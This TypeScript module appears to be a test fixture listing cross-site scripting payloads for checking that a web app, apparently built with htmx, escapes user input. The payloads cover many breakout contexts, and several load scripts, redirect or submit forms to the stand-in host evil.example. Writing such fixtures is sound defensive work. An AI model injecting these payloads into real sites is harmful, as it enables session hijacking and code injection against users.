/** Each sets `__xss`, opens a dialog or contacts another site if it is interpreted as markup. */
export const payloads = {
  "a script": "<script>window.__xss=1</script>",
  "a script of another site": '<script src="https://evil.example/x.js"></script>',
  "an image's error": '<img src="x" onerror="window.__xss=1">',
  "an image of another site": "<img src=https://evil.example/x.png>",
  "SVG's load": "<svg/onload=window.__xss=1>",
  "SVG in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
  "a javascript: address": "javascript:window.__xss=1",
  "a link to one": '<a href="javascript:window.__xss=1" autofocus onfocus="window.__xss=1">x</a>',
  "a double quote": '" autofocus onfocus="window.__xss=1" x="',
  "a single quote": "' autofocus onfocus='window.__xss=1' x='",
  "the end of an attribute and its tag": '"><img src=x onerror=alert(1)>',
  "the end of a comment": "--><script>alert(1)</script><!--",
  "the end of a template": "</template><script>window.__xss=1</script>{{window.__xss=1}}",
  "the end of the title": "</title><script>window.__xss=1</script>",
  "the end of a textarea": "</textarea></select></style></noscript><script>window.__xss=1</script>",
  "UTF-7": "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
  "htmx's own handlers":
    '<div hx-on:load="window.__xss=1" hx-on::load="window.__xss=1" hx-get="https://evil.example/" hx-trigger="load">x</div>',
  "htmx's partials": '<hx-partial hx-target="body" hx-swap="innerHTML"><img src=x onerror=window.__xss=1></hx-partial>',
  "an event stream of another": '<div hx-sse:connect="https://evil.example/feed" hx-trigger="load"></div>',
  "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "a base": '<base href="https://evil.example/">',
  "a style": "<style>*{background:url(https://evil.example/x)}</style>",
  "a style's attribute": '<p style="background:url(https://evil.example/x);width:expression(window.__xss=1)">x</p>',
  "a frame": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  "a form of another": '<form action="https://evil.example/"><button autofocus>Save</button></form>',
  "line separators": "x\u2028window.__xss=1\u2029//\u202e\u0085",
  entities: "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;img src=x onerror=window.__xss=1&#62;",
  "an event stream's frame": "x\ndata: <img src=x onerror=window.__xss=1>\nevent: ping"
}
export const all = Object.values(payloads)
/** For values that no page repeats: a breakout for each context. */
export const some = [
  payloads["a script"],
  payloads["an image's error"],
  payloads["a javascript: address"],
  payloads["a single quote"],
  payloads["the end of an attribute and its tag"],
  payloads["the end of the title"],
  payloads["htmx's own handlers"]
]
/** Characters that a header may contain. */
export const isHeader = (text: string) => /^[\x20-\x7e]*$/.test(text)
/** As a todo: HTML inputs cannot contain line breaks. */
export const texts = all.map((text) => text.replace(/\n/g, " "))
